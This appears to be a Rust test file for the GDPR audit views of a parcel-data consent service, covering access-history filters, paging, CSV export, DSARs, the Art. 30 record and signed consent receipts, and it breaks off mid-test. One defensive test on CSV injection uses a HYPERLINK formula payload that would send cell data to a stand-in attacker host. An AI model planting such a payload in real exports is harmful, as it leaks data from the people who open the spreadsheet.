//! Issue 6: the GDPR audit views — access history with filters, tenancy and stable paging,
//! CSV a spreadsheet opens, a DSAR that names recipients but no denied party, the Art. 30
//! record per partner, and consent receipts signed with the log key.

use actix_web::http::StatusCode;
use chrono::Duration;
use consent_ledger_audit::note::VerifierKey;
use serde_json::{json, Value};

use crate::helpers::{
    consent_for, expect, problem, rfc3339, spawn_app, spawn_app_in, start_time, TestApp,
};

fn ask(shipment: &str) -> Value {
    json!({"shipment_id": shipment, "purpose": "insurance_claim", "data_categories": ["status_events", "location"]})
}

async fn decide(app: &TestApp, token: &str, body: Value) -> Value {
    let r = app.post("/v1/decisions", token, body).await;
    expect(&r, StatusCode::OK).clone()
}

fn items(r: &crate::helpers::Reply) -> Vec<Value> {
    expect(r, StatusCode::OK)["items"]
        .as_array()
        .unwrap_or_else(|| panic!("no items in {}", r.body))
        .clone()
}

fn positions(items: &[Value]) -> Vec<u64> {
    items
        .iter()
        .map(|i| i["position"].as_u64().expect("position"))
        .collect()
}

/// Parses CSV text as a spreadsheet would (RFC 4180), checking every record has the header's
/// number of fields.
fn parse_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(false)
        .from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("a header row")
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| {
            r.expect("an RFC 4180 record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect();
    (header, rows)
}

/// Two shippers, two partners and a regulator; two parcels of the first shipper, the first
/// with a consent of the first partner.
struct Cast {
    shipper: String,
    shipper_token: String,
    other_shipper: String,
    p1: String,
    p1_token: String,
    p2: String,
    p2_token: String,
    regulator: String,
    s1: String,
    s2: String,
    consent: String,
}

async fn cast(app: &TestApp) -> Cast {
    let (shipper, shipper_token) = app.principal("shipper", "Shop").await;
    let (_, other_shipper) = app.principal("shipper", "Other shop").await;
    let (p1, p1_token) = app.partner("Insure").await;
    let (p2, p2_token) = app.partner("Lender").await;
    let (_, regulator) = app.principal("regulator", "DPA").await;
    let s1 = app.shipment(&shipper_token, "DHL", "JJD1", "DE").await;
    let s2 = app.shipment(&shipper_token, "DHL", "JJD2", "DE").await;
    let consent = app
        .post("/v1/consents", &shipper_token, consent_for(&p1, &s1))
        .await
        .id();
    Cast {
        shipper,
        shipper_token,
        other_shipper,
        p1,
        p1_token,
        p2,
        p2_token,
        regulator,
        s1,
        s2,
        consent,
    }
}

#[actix_web::test]
async fn access_history_filters_by_each_field_and_shows_the_consent_as_it_stood() {
    let app = spawn_app().await;
    let c = cast(&app).await;
    let (shipper, shipper_token, other_shipper) = (c.shipper, c.shipper_token, c.other_shipper);
    let (p1, p1_token, p2, p2_token) = (c.p1, c.p1_token, c.p2, c.p2_token);
    let (regulator, s1, s2, consent) = (c.regulator, c.s1, c.s2, c.consent);
    let (_, gateway) = app.principal("gateway", "Tracking API").await;
    let s3 = app.shipment(&other_shipper, "UPS", "1Z9", "FR").await;

    let allowed = decide(&app, &p1_token, ask(&s1)).await;
    assert_eq!(allowed["allowed"], true);
    decide(&app, &p2_token, ask(&s1)).await;
    decide(&app, &p1_token, ask(&s2)).await;
    decide(&app, &p1_token, ask(&s3)).await;
    let unknown = json!({"carrier": "DHL", "tracking_number": "NOPE1", "purpose": "insurance_claim", "data_categories": ["status_events"]});
    decide(&app, &p1_token, unknown).await;
    app.clock.advance(Duration::hours(1));
    let revoked = app
        .post(
            &format!("/v1/consents/{consent}/revoke"),
            &shipper_token,
            json!({"reason": "customer objected"}),
        )
        .await;
    assert_eq!(revoked.status, StatusCode::OK);
    let after_revoke = decide(&app, &p1_token, ask(&s1)).await;
    assert_eq!(after_revoke["reason"], "consent_revoked");

    // One shipment's history, in log order, each row linked to its consent as it stood then.
    let r = app
        .get(&format!("/v1/audit/access?shipment_id={s1}"), &regulator)
        .await;
    let rows = items(&r);
    assert_eq!(rows.len(), 3, "{}", r.body);
    assert_eq!(rows[0]["position"], allowed["position"]);
    assert_eq!(rows[0]["outcome"], "allowed");
    assert_eq!(rows[0]["partner_id"], p1.as_str());
    assert_eq!(rows[0]["partner_name"], "Insure");
    assert_eq!(rows[0]["shipper_id"], shipper.as_str());
    assert_eq!(rows[0]["carrier"], "DHL");
    assert_eq!(rows[0]["tracking_number"], "JJD1");
    assert_eq!(rows[0]["granted_categories"], json!(["status_events"]));
    assert_eq!(
        rows[0]["requested_categories"],
        json!(["status_events", "location"])
    );
    let link = &rows[0]["consents"][0];
    assert_eq!(link["consent_id"], consent.as_str());
    assert_eq!(link["href"], format!("/v1/consents/{consent}"));
    assert_eq!(
        link["status_at_decision"], "active",
        "revoked later, active when this decision was made"
    );
    assert_eq!(link["legal_basis"], "contract");
    assert_eq!(rows[1]["outcome"], "denied");
    assert_eq!(rows[1]["reason"], "no_consent");
    assert_eq!(
        rows[1]["consents"],
        json!([]),
        "no consent of that partner to link"
    );
    assert_eq!(rows[2]["reason"], "consent_revoked");
    assert_eq!(rows[2]["position"], after_revoke["position"]);
    // A denial on a consent's state links to that consent, as it stood: revoked.
    let link = &rows[2]["consents"][0];
    assert_eq!(link["consent_id"], consent.as_str(), "{}", r.body);
    assert_eq!(link["status_at_decision"], "revoked");
    assert_eq!(rows[2]["consents"].as_array().map(Vec::len), Some(1));

    // The same parcel by carrier + tracking number (case-insensitive, as everywhere).
    let by_tracking = app
        .get(
            "/v1/audit/access?carrier=dhl&tracking_number=jjd1",
            &regulator,
        )
        .await;
    assert_eq!(positions(&items(&by_tracking)), positions(&rows));
    // An unknown parcel asked for by tracking number is recorded under it.
    let unknown_rows = items(
        &app.get(
            "/v1/audit/access?carrier=DHL&tracking_number=NOPE1",
            &regulator,
        )
        .await,
    );
    assert_eq!(unknown_rows.len(), 1);
    assert_eq!(unknown_rows[0]["reason"], "unknown_shipment");
    // Partner, shipper, outcome filters.
    let p1_rows = items(
        &app.get(&format!("/v1/audit/access?partner_id={p1}"), &regulator)
            .await,
    );
    assert_eq!(p1_rows.len(), 5);
    assert!(p1_rows.iter().all(|r| r["partner_id"] == p1.as_str()));
    let denied = items(
        &app.get(
            &format!("/v1/audit/access?partner_id={p1}&outcome=denied"),
            &regulator,
        )
        .await,
    );
    assert_eq!(denied.len(), 4);
    assert!(denied.iter().all(|r| r["outcome"] == "denied"));
    let shop_rows = items(
        &app.get(
            &format!("/v1/audit/access?shipper_id={shipper}"),
            &regulator,
        )
        .await,
    );
    assert_eq!(shop_rows.len(), 4, "s1 three times, s2 once");
    // Time window: [from, to).
    let before_revoke = rfc3339(start_time() + Duration::minutes(30));
    let early = items(
        &app.get(&format!("/v1/audit/access?to={before_revoke}"), &regulator)
            .await,
    );
    assert_eq!(early.len(), 5);
    let late = items(
        &app.get(
            &format!("/v1/audit/access?from={before_revoke}"),
            &regulator,
        )
        .await,
    );
    assert_eq!(late.len(), 1);
    assert_eq!(late[0]["reason"], "consent_revoked");

    // Tenancy: a shipper sees its own shipments' records; another's shipment is 404.
    let own = items(&app.get("/v1/audit/access", &shipper_token).await);
    assert_eq!(own.len(), 4);
    assert!(own.iter().all(|r| r["shipper_id"] == shipper.as_str()));
    problem(
        &app.get(
            &format!("/v1/audit/access?shipment_id={s3}"),
            &shipper_token,
        )
        .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
    problem(
        &app.get(
            "/v1/audit/access?carrier=DHL&tracking_number=JJD1",
            &other_shipper,
        )
        .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
    problem(
        &app.get(
            &format!("/v1/audit/access?shipper_id={shipper}"),
            &other_shipper,
        )
        .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
    let theirs = items(&app.get("/v1/audit/access", &other_shipper).await);
    assert_eq!(theirs.len(), 1, "only the decision about its own parcel s3");
    // A partner sees its own decisions, never another partner's.
    let p2_rows = items(&app.get("/v1/audit/access", &p2_token).await);
    assert_eq!(p2_rows.len(), 1);
    assert_eq!(p2_rows[0]["partner_id"], p2.as_str());
    problem(
        &app.get(&format!("/v1/audit/access?partner_id={p1}"), &p2_token)
            .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
    problem(
        &app.get("/v1/audit/access", &gateway).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
}

#[actix_web::test]
async fn bad_audit_filters_are_422_naming_the_field_and_record_nothing() {
    let app = spawn_app().await;
    let (_, regulator) = app.principal("privacy_officer", "DPO").await;
    let size = app.log_size().await;
    for (query, field) in [
        ("from=yesterday", "from"),
        ("to=2026-13-01T00:00:00Z", "to"),
        ("from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z", "to"),
        ("outcome=maybe", "outcome"),
        ("shipment_id=not-a-uuid", "shipment_id"),
        ("partner_id=42", "partner_id"),
        ("carrier=DHL", "tracking_number"),
        ("format=xml", "format"),
        ("limit=0", "limit"),
        ("limit=1001", "limit"),
        ("after=%%%", "after"),
        ("after=bm90LWEtbnVtYmVy", "after"),
        ("colour=red", "colour"),
    ] {
        let r = app
            .get(&format!("/v1/audit/access?{query}"), &regulator)
            .await;
        problem(&r, StatusCode::UNPROCESSABLE_ENTITY, "invalid-field");
        assert_eq!(r.field(), field, "{query}: {}", r.body);
    }
    for (path, field) in [
        ("/v1/audit/dsar", "recipient_ref"),
        ("/v1/audit/dsar?carrier=DHL", "tracking_number"),
        (
            "/v1/audit/dsar?carrier=DHL&tracking_number=J1&recipient_ref=c1",
            "recipient_ref",
        ),
        (
            "/v1/audit/dsar?recipient_ref=jane@example.com",
            "recipient_ref",
        ),
        ("/v1/audit/dsar?recipient_ref=c1&format=ndjson", "format"),
        ("/v1/audit/ropa?to=2026-03-01T00:00:00Z", "from"),
        ("/v1/audit/ropa?from=2026-03-01T00:00:00Z", "to"),
        (
            "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-02-01T00:00:00Z",
            "to",
        ),
    ] {
        let r = app.get(path, &regulator).await;
        problem(&r, StatusCode::UNPROCESSABLE_ENTITY, "invalid-field");
        assert_eq!(r.field(), field, "{path}: {}", r.body);
    }
    assert_eq!(app.log_size().await, size, "nothing recorded");
}

#[actix_web::test]
async fn pages_lose_and_repeat_no_row_while_decisions_are_appended() {
    let app = spawn_app().await;
    let (_, shipper) = app.principal("shipper", "Shop").await;
    let (partner, partner_token) = app.partner("Insure").await;
    let (_, regulator) = app.principal("regulator", "DPA").await;
    let shipment = app.shipment(&shipper, "DHL", "JJD1", "DE").await;
    app.post("/v1/consents", &shipper, consent_for(&partner, &shipment))
        .await;
    for _ in 0..40 {
        decide(&app, &partner_token, ask(&shipment)).await;
    }
    let path = format!("/v1/audit/access?shipment_id={shipment}&limit=7");
    // A reader pages through while a writer keeps deciding, interleaved on this thread.
    let reader = async {
        let mut seen = Vec::new();
        let mut next: Option<String> = None;
        let mut pages = 0;
        loop {
            let url = match &next {
                Some(after) => format!("{path}&after={after}"),
                None => path.clone(),
            };
            let r = app.get(&url, &regulator).await;
            seen.extend(positions(&items(&r)));
            pages += 1;
            match r.body["next_after"].as_str() {
                Some(after) => next = Some(after.to_owned()),
                None => break,
            }
            actix_web::rt::task::yield_now().await;
        }
        (seen, pages)
    };
    let writer = async {
        for _ in 0..40 {
            decide(&app, &partner_token, ask(&shipment)).await;
        }
    };
    let ((mut seen, pages), ()) = tokio::join!(reader, writer);
    assert!(pages > 5, "paged while writing ({pages} pages)");
    // Then page on from where the reader stopped: every decision exactly once, in order.
    loop {
        let last = *seen.last().expect("rows");
        let cursor = base64_cursor(last);
        let r = app.get(&format!("{path}&after={cursor}"), &regulator).await;
        let more = positions(&items(&r));
        if more.is_empty() {
            break;
        }
        seen.extend(more);
    }
    let mut sorted = seen.clone();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted, seen, "strictly increasing: nothing repeated");
    let in_log: Vec<u64> = app
        .log()
        .await
        .iter()
        .filter(|e| e.stream_type == "access")
        .map(|e| e.position.get())
        .collect();
    assert_eq!(in_log.len(), 80);
    assert_eq!(seen, in_log, "nothing lost");
}

/// The cursor the API hands out for a position (opaque to callers; tests may build it).
fn base64_cursor(position: u64) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(position.to_string())
}

/// The position a cursor the API handed out resumes after (its first number).
fn resumes_after(cursor: &str) -> u64 {
    use base64::Engine;
    let text = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(cursor)
        .ok()
        .and_then(|b| String::from_utf8(b).ok())
        .unwrap_or_else(|| panic!("a cursor the API handed out: {cursor}"));
    text.split('.')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("a cursor the API handed out: {text}"))
}

#[actix_web::test]
async fn csv_has_a_header_row_and_rfc_4180_quoting_and_ndjson_one_object_a_line() {
    let app = spawn_app().await;
    let (_, shipper) = app.principal("shipper", "Shop").await;
    let body = json!({ "role": "partner", "name": "Insure, \"Best\" Co",
        "partner": { "kind": "insurer", "country": "DE", "dpa_ref": "DPA-1" } });
    let r = app.post("/v1/principals", &app.admin, body).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let (partner, partner_token) = (r.id(), r.token());
    let (_, regulator) = app.principal("regulator", "DPA").await;
    let shipment = app.shipment(&shipper, "DHL", "JJD1", "DE").await;
    app.post("/v1/consents", &shipper, consent_for(&partner, &shipment))
        .await;
    decide(&app, &partner_token, ask(&shipment)).await;
    decide(&app, &partner_token, json!({"shipment_id": shipment, "purpose": "bnpl_financing", "data_categories": ["location"]})).await;

    let r = app.get("/v1/audit/access?format=csv", &regulator).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.content_type.starts_with("text/csv"), "{}", r.content_type);
    let text = r.body.as_str().expect("CSV text");
    assert!(text.ends_with("\r\n"), "RFC 4180 line ends");
    let (header, rows) = parse_csv(text);
    assert_eq!(header[0], "position");
    assert!(header.contains(&"partner_name".to_owned()));
    assert_eq!(rows.len(), 2);
    let name = header
        .iter()
        .position(|h| h == "partner_name")
        .expect("column");
    assert_eq!(rows[0][name], "Insure, \"Best\" Co", "quoted, round-trips");
    assert!(text.contains(",\"Insure, \"\"Best\"\" Co\","), "{text}");
    let outcome = header.iter().position(|h| h == "outcome").expect("column");
    assert_eq!(rows[0][outcome], "allowed");
    assert_eq!(rows[1][outcome], "denied");
    let states = header
        .iter()
        .position(|h| h == "consent_status_at_decision")
        .expect("column");
    assert_eq!(rows[0][states], "active");

    let r = app
        .get("/v1/audit/access?format=ndjson&limit=1", &regulator)
        .await;
    assert_eq!(r.content_type, "application/x-ndjson");
    let text = r
        .body
        .as_str()
        .map(str::to_owned)
        .unwrap_or_else(|| format!("{}\n", r.body));
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object a line"))
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["outcome"], "allowed");
    let link = r
        .headers
        .get("link")
        .and_then(|v| v.to_str().ok())
        .expect("Link header");
    assert!(
        link.contains("rel=\"next\"") && link.contains("after="),
        "{link}"
    );
}

/// Security issue (CSV injection, OWASP): text a partner or the carrier chose reaches the
/// privacy officer's spreadsheet. A cell that starts like a formula (`=`, `+`, `-`, `@`, tab,
/// CR) is written with a leading `'`, which spreadsheets show as text, in the access history
/// and in the DSAR; JSON keeps the value as it was given.
#[actix_web::test]
async fn csv_cells_that_start_like_formulas_are_written_as_text() {
    let app = spawn_app().await;
    let (shipper_id, shipper) = app.principal("shipper", "Shop").await;
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Claim\")";
    let body = json!({ "role": "partner", "name": name,
        "partner": { "kind": "insurer", "country": "DE", "dpa_ref": "+DPA-1" } });
    let r = app.post("/v1/principals", &app.admin, body).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let (partner, partner_token) = (r.id(), r.token());
    let (_, dpo) = app.principal("privacy_officer", "DPO").await;
    let body = json!({"carrier": "DHL", "tracking_number": "-JJD1", "destination_country": "DE",
        "recipient_ref": "crm:9", "shipper_id": shipper_id});
    let r = app.post("/v1/shipments", &app.admin, body).await;
    let shipment = expect(&r, StatusCode::CREATED)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let r = app
        .post("/v1/consents", &shipper, consent_for(&partner, &shipment))
        .await;
    expect(&r, StatusCode::CREATED);
    decide(&app, &partner_token, ask(&shipment)).await;

    let r = app.get("/v1/audit/access?format=csv", &dpo).await;
    assert_eq!(r.status, StatusCode::OK);
    let (header, rows) = parse_csv(r.body.as_str().expect("CSV text"));
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][column("partner_name")], format!("'{name}"));
    assert_eq!(rows[0][column("tracking_number")], "'-JJD1");
    assert_eq!(
        rows[0][column("carrier")],
        "DHL",
        "other cells as they were"
    );
    let r = app.get("/v1/audit/access", &dpo).await;
    let items = items(&r);
    assert_eq!(items[0]["partner_name"], name, "JSON is not a spreadsheet");
    assert_eq!(items[0]["tracking_number"], "-JJD1");

    let r = app
        .get("/v1/audit/dsar?recipient_ref=crm:9&format=csv", &dpo)
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let (header, rows) = parse_csv(r.body.as_str().expect("CSV text"));
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][column("name")], format!("'{name}"));
    assert_eq!(rows[0][column("dpa_ref")], "'+DPA-1");
    assert!(rows
        .iter()
        .flatten()
        .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));

    let r = app
        .get(
            "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z&format=csv",
            &dpo,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let (header, rows) = parse_csv(r.body.as_str().expect("CSV text"));
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    assert_eq!(rows[0][column("name")], format!("'{name}"));
}

#[actix_web::test]
async fn a_dsar_names_every_recipient_and_lists_denied_parties_apart() {
    let app = spawn_app().await;
    let (shipper_id, shipper) = app.principal("shipper", "Shop").await;
    let (_, other_shipper) = app.principal("shipper", "Other").await;
    let (insurer, insurer_token) = app.partner("Insure").await;
    let (lender, lender_token) = app.partner("Lender").await;
    let (_, dpo) = app.principal("privacy_officer", "DPO").await;
    let body = json!({"carrier": "DHL", "tracking_number": "JJD1", "destination_country": "DE", "recipient_ref": "crm:4711", "shipper_id": shipper_id});
    let shipment = app.post("/v1/shipments", &app.admin, body).await.id();
    let body = json!({"carrier": "DHL", "tracking_number": "JJD2", "destination_country": "DE", "recipient_ref": "crm:4711", "shipper_id": shipper_id});
    let second = app.post("/v1/shipments", &app.admin, body).await.id();
    let unrelated = app.shipment(&shipper, "DHL", "JJD3", "DE").await;
    for s in [&shipment, &second, &unrelated] {
        app.post("/v1/consents", &shipper, consent_for(&insurer, s))
            .await;
    }
    decide(&app, &insurer_token, ask(&shipment)).await;
    decide(&app, &insurer_token, ask(&second)).await;
    decide(&app, &insurer_token, ask(&unrelated)).await;
    let refused = decide(&app, &lender_token, ask(&shipment)).await;
    assert_eq!(refused["allowed"], false);

    let r = app.get("/v1/audit/dsar?recipient_ref=crm:4711", &dpo).await;
    let d = expect(&r, StatusCode::OK);
    assert_eq!(d["shipments"].as_array().map(Vec::len), Some(2));
    let recipients = d["recipients"].as_array().expect("recipients");
    assert_eq!(recipients.len(), 1, "{d}");
    assert_eq!(recipients[0]["partner_id"], insurer.as_str());
    assert_eq!(recipients[0]["name"], "Insure");
    assert_eq!(recipients[0]["kind"], "insurer");
    assert_eq!(recipients[0]["dpa_ref"], "DPA-Insure");
    let accesses = recipients[0]["accesses"].as_array().expect("accesses");
    assert_eq!(
        accesses.len(),
        2,
        "both parcels of the subject, not the unrelated one"
    );
    assert_eq!(accesses[0]["purpose"], "insurance_claim");
    assert_eq!(accesses[0]["legal_bases"], json!(["contract"]));
    assert_eq!(accesses[0]["data_categories"], json!(["status_events"]));
    assert_eq!(accesses[0]["consent_ids"].as_array().map(Vec::len), Some(1));
    assert!(accesses[0]["decided_at"].is_string());
    let denied = d["denied_attempts"].as_array().expect("denied");
    assert_eq!(denied.len(), 1);
    assert_eq!(denied[0]["partner_id"], lender.as_str());
    assert_eq!(denied[0]["reason"], "no_consent");
    assert!(
        !recipients
            .iter()
            .any(|p| p["partner_id"] == lender.as_str()),
        "a denied party received nothing and is no recipient"
    );

    // By carrier + tracking number: that parcel only.
    let r = app
        .get("/v1/audit/dsar?carrier=DHL&tracking_number=JJD1", &dpo)
        .await;
    let d = expect(&r, StatusCode::OK);
    assert_eq!(
        d["recipients"][0]["accesses"].as_array().map(Vec::len),
        Some(1)
    );
    assert_eq!(d["denied_attempts"].as_array().map(Vec::len), Some(1));

    // CSV: recipients and denied attempts in their own sections.
    let r = app
        .get("/v1/audit/dsar?recipient_ref=crm:4711&format=csv", &dpo)
        .await;
    assert!(r.content_type.starts_with("text/csv"));
    let (header, rows) = parse_csv(r.body.as_str().expect("CSV"));
    assert_eq!(header[0], "section");
    let sections: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(sections, ["recipient", "recipient", "denied_attempt"]);
    assert!(rows[..2].iter().all(|r| r[1] == insurer));
    assert_eq!(rows[2][1], lender);

    // The shipper (controller) answers for its own parcels; another shipper gets 404; a
    // partner may not ask.
    let r = app
        .get("/v1/audit/dsar?recipient_ref=crm:4711", &shipper)
        .await;
    assert_eq!(
        expect(&r, StatusCode::OK)["recipients"]
            .as_array()
            .map(Vec::len),
        Some(1)
    );
    problem(
        &app.get("/v1/audit/dsar?recipient_ref=crm:4711", &other_shipper)
            .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
    problem(
        &app.get(
            "/v1/audit/dsar?carrier=DHL&tracking_number=JJD1",
            &other_shipper,
        )
        .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
    problem(
        &app.get("/v1/audit/dsar?recipient_ref=crm:4711", &insurer_token)
            .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
}

#[actix_web::test]
async fn ropa_gives_per_partner_its_terms_and_reads_in_the_period() {
    let app = spawn_app().await;
    let (_, shipper) = app.principal("shipper", "Shop").await;
    let (insurer, insurer_token) = app.partner("Insure").await;
    let (lender, lender_token) = app.partner("Lender").await;
    let (_, unused) = app.partner("Idle").await;
    let _ = unused;
    let (_, regulator) = app.principal("regulator", "DPA").await;
    let shipment = app.shipment(&shipper, "DHL", "JJD1", "DE").await;
    app.post("/v1/consents", &shipper, consent_for(&insurer, &shipment))
        .await;
    // Day 1 (2026-03-01 12:00): two reads; day 2: one; day 3: one allowed, one denied.
    decide(&app, &insurer_token, ask(&shipment)).await;
    decide(&app, &insurer_token, ask(&shipment)).await;
    app.clock.advance(Duration::days(1));
    decide(&app, &insurer_token, ask(&shipment)).await;
    app.clock.advance(Duration::days(1));
    decide(&app, &insurer_token, ask(&shipment)).await;
    decide(&app, &lender_token, ask(&shipment)).await;

    let whole = app
        .get(
            "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z",
            &regulator,
        )
        .await;
    let r = expect(&whole, StatusCode::OK);
    let partners = r["partners"].as_array().expect("partners");
    assert_eq!(partners.len(), 2, "the idle partner processed nothing: {r}");
    let ins = partners
        .iter()
        .find(|p| p["partner_id"] == insurer.as_str())
        .expect("insurer");
    assert_eq!(ins["kind"], "insurer");
    assert_eq!(ins["country"], "DE");
    assert_eq!(ins["dpa_ref"], "DPA-Insure");
    assert_eq!(ins["purposes"], json!(["insurance_claim"]));
    assert_eq!(
        ins["data_categories"],
        json!(["proof_of_delivery", "status_events"])
    );
    assert_eq!(ins["legal_bases"], json!(["contract"]));
    assert_eq!(ins["allowed_reads"], 4);
    assert_eq!(ins["denied_reads"], 0);
    let len = partners
        .iter()
        .find(|p| p["partner_id"] == lender.as_str())
        .expect("lender");
    assert_eq!(len["allowed_reads"], 0);
    assert_eq!(len["denied_reads"], 1);
    assert_eq!(len["purposes"], json!([]));

    // A period cutting days: from day 1 13:00 (after its reads) to day 3 12:30 (after its
    // reads): day 2 whole, day 3 in part.
    let part = app
        .get(
            "/v1/audit/ropa?from=2026-03-01T13:00:00Z&to=2026-03-03T12:30:00Z",
            &regulator,
        )
        .await;
    let r = expect(&part, StatusCode::OK);
    let ins = r["partners"]
        .as_array()
        .expect("partners")
        .iter()
        .find(|p| p["partner_id"] == insurer.as_str())
        .expect("insurer")
        .clone();
    assert_eq!(ins["allowed_reads"], 2);
    // Only day 3 before noon: nothing.
    let none = app
        .get(
            "/v1/audit/ropa?from=2026-03-03T00:00:00Z&to=2026-03-03T11:00:00Z",
            &regulator,
        )
        .await;
    let r = expect(&none, StatusCode::OK);
    assert!(r["partners"]
        .as_array()
        .expect("partners")
        .iter()
        .all(|p| p["allowed_reads"] == 0 && p["denied_reads"] == 0));

    let csv = app
        .get(
            "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z&format=csv",
            &regulator,
        )
        .await;
    assert!(csv.content_type.starts_with("text/csv"));
    let (header, rows) = parse_csv(csv.body.as_str().expect("CSV"));
    assert_eq!(header[0], "partner_id");
    assert_eq!(rows.len(), 2);
    problem(
        &app.get(
            "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z",
            &shipper,
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
}

#[actix_web::test]
async fn a_consent_receipt_is_signed_with_the_log_key_and_shows_the_revocation() {
    let app = spawn_app().await;
    let (shipper, shipper_token) = app.principal("shipper", "Shop").await;
    let (_, other) = app.principal("shipper", "Other").await;
    let (partner, partner_token) = app.partner("Insure").await;
    let shipment = app.shipment(&shipper_token, "DHL", "JJD1", "DE").await;
    let consent = app
        .post(
            "/v1/consents",
            &shipper_token,
            consent_for(&partner, &shipment),
        )
        .await
        .id();
    app.post(
        &format!("/v1/consents/{consent}/revoke"),
        &shipper_token,
        json!({"reason": "customer objected"}),
    )
    .await;

    let r = app
        .get(&format!("/v1/consents/{consent}/receipt"), &partner_token)
        .await;
    let body = expect(&r, StatusCode::OK).clone();
    let receipt = &body["receipt"];
    assert_eq!(receipt["schema_version"], "ISO/IEC TS 27560:2023");
    assert_eq!(receipt["record_id"], consent.as_str());
    assert_eq!(receipt["controller"]["id"], shipper.as_str());
    assert_eq!(receipt["recipients"][0]["id"], partner.as_str());
    assert_eq!(receipt["recipients"][0]["dpa_ref"], "DPA-Insure");
    assert_eq!(receipt["purposes"][0]["purpose"], "insurance_claim");
    assert_eq!(receipt["purposes"][0]["legal_basis"], "contract");
    assert_eq!(receipt["status"], "revoked");
    assert_eq!(receipt["events"][0]["event_type"], "given");
    assert_eq!(receipt["events"][1]["event_type"], "withdrawn");
    assert_eq!(receipt["events"][1]["reason"], "customer objected");
    assert_eq!(receipt["events"][1]["actor"], shipper.as_str());

    // The signature verifies with the published vkey over the receipt's RFC 8785 form …
    let vkey_text = app.get_anonymous("/v1/log/vkey").await.body;
    let vkey_text = vkey_text.as_str().expect("vkey text").trim().to_owned();
    assert_eq!(body["vkey"], vkey_text.as_str());
    let vkey: VerifierKey = vkey_text.parse().expect("vkey");
    let signature = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD
            .decode(body["signature"].as_str().expect("signature"))
            .expect("base64")
    };
    let canonical = consent_ledger_audit::leaf::canonical_text(receipt).expect("canonical JSON");
    assert!(vkey.verify_detached(canonical.as_bytes(), &signature));
    // … and not over a receipt whose status was changed.
    let mut altered = receipt.clone();
    altered["status"] = json!("active");
    let altered = consent_ledger_audit::leaf::canonical_text(&altered).expect("canonical");
    assert!(!vkey.verify_detached(altered.as_bytes(), &signature));

    problem(
        &app.get(&format!("/v1/consents/{consent}/receipt"), &other)
            .await,
        StatusCode::NOT_FOUND,
        "not-found",
    );
}

#[actix_web::test]
async fn openapi_describes_every_audit_endpoint_and_parameter() {
    let app = spawn_app().await;
    let doc = app.get_anonymous("/openapi.json").await.body;
    for path in [
        "/v1/audit/access",
        "/v1/audit/dsar",
        "/v1/audit/ropa",
        "/v1/consents/{id}/receipt",
    ] {
        assert!(doc["paths"][path]["get"].is_object(), "{path} missing");
    }
    let params: Vec<&str> = doc["paths"]["/v1/audit/access"]["get"]["parameters"]
        .as_array()
        .expect("parameters")
        .iter()
        .filter_map(|p| p["name"].as_str())
        .collect();
    for name in [
        "shipment_id",
        "carrier",
        "tracking_number",
        "partner_id",
        "shipper_id",
        "from",
        "to",
        "outcome",
        "format",
        "limit",
        "after",
    ] {
        assert!(params.contains(&name), "{name} not described");
    }
}

#[actix_web::test]
async fn the_binary_exports_the_same_views_to_files_for_a_regulator() {
    let app = spawn_app().await;
    let (shipper_id, shipper) = app.principal("shipper", "Shop").await;
    let (insurer, insurer_token) = app.partner("Insure").await;
    let (_, lender_token) = app.partner("Lender").await;
    let body = json!({"carrier": "DHL", "tracking_number": "JJD1", "destination_country": "DE", "recipient_ref": "crm:1", "shipper_id": shipper_id});
    let shipment = app.post("/v1/shipments", &app.admin, body).await.id();
    app.post("/v1/consents", &shipper, consent_for(&insurer, &shipment))
        .await;
    for _ in 0..3 {
        decide(&app, &insurer_token, ask(&shipment)).await;
    }
    decide(&app, &lender_token, ask(&shipment)).await;
    let over_http = app
        .get(
            "/v1/audit/dsar?recipient_ref=crm:1&format=csv",
            &app.principal("regulator", "DPA").await.1,
        )
        .await
        .body;
    let (backing, _, _) = app.stop().await;
    let options = backing.options();
    let out = tempfile::tempdir().expect("temp dir");
    let ledger = || {
